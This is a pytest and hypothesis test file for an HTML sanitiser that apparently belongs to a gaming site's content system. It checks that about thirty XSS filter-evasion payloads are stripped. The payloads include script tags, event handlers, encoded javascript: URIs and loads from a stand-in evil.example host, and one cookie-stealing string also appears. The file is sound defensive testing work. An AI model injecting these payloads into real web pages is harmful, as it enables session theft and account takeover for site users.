"""Rich text is sanitised on save: real XSS payloads never reach the player app."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.content.sanitize import clean_html, clean_title
from app.core.errors import ValidationError

#: Payloads from the OWASP XSS filter evasion cheat sheet and PortSwigger's list.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<details open ontoggle=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<!--<script>alert(1)</script>-->",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="#" onclick="alert(1)" onmouseover="alert(1)">x</a>',
]

DANGEROUS = ("<script", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle",
             "javascript:", "vbscript:", "data:text", "<iframe", "<object", "<embed", "<svg",
             "<style", "<form", "<meta", "<base", "<input", "srcdoc", "style=")  # fmt: skip


def _is_safe(html: str) -> bool:
    lowered = html.lower()
    # An attribute value is always quoted and '<'/'>' inside it escaped: what is left of a
    # payload is text, never markup. Text content may say "alert(1)"; that is harmless.
    return not any(marker in lowered for marker in DANGEROUS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_xss_payload_survives_the_sanitiser(payload):
    cleaned = clean_html(payload)
    assert _is_safe(cleaned), cleaned


def test_formatting_and_safe_links_are_kept():
    html = (
        '<h2>Terms</h2><p>Read <strong>carefully</strong> and <a href="https://jackpotx.test/'
        'rules" title="Rules">the rules</a> or <a href="mailto:help@jackpotx.test">mail us</a>.'
        "</p><ul><li>one</li></ul>"
    )
    cleaned = clean_html(html)
    assert "<h2>Terms</h2>" in cleaned
    assert "<strong>carefully</strong>" in cleaned
    assert 'href="https://jackpotx.test/rules"' in cleaned
    assert 'rel="noopener noreferrer nofollow"' in cleaned
    assert 'href="mailto:help@jackpotx.test"' in cleaned
    assert "<li>one</li>" in cleaned


def test_script_content_is_dropped_with_the_tag():
    assert clean_html("<p>a</p><script>steal(document.cookie)</script>") == "<p>a</p>"


@pytest.mark.parametrize("bad", ["a\x00b", "<p>\x00</p>"])
def test_nul_bytes_are_refused(bad):
    with pytest.raises(ValidationError):
        clean_html(bad)
    with pytest.raises(ValidationError):
        clean_title(bad.replace("<p>", "").replace("</p>", ""))


@pytest.mark.parametrize("title", ["<b>x</b>", "<script>alert(1)</script>", "a > b", " ", ""])
def test_a_title_with_markup_or_nothing_in_it_is_refused(title):
    with pytest.raises(ValidationError):
        clean_title(title)


def test_an_absurdly_long_body_is_refused():
    with pytest.raises(ValidationError):
        clean_html("<p>" + "x" * 100_001 + "</p>")


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<p>", "</p>", "<a href='", "'>", "<b>", '"', "'", "x"]),
        max_size=8,
    )
)
def test_any_mix_of_payload_fragments_comes_out_safe(parts):
    assert _is_safe(clean_html("".join(parts)))
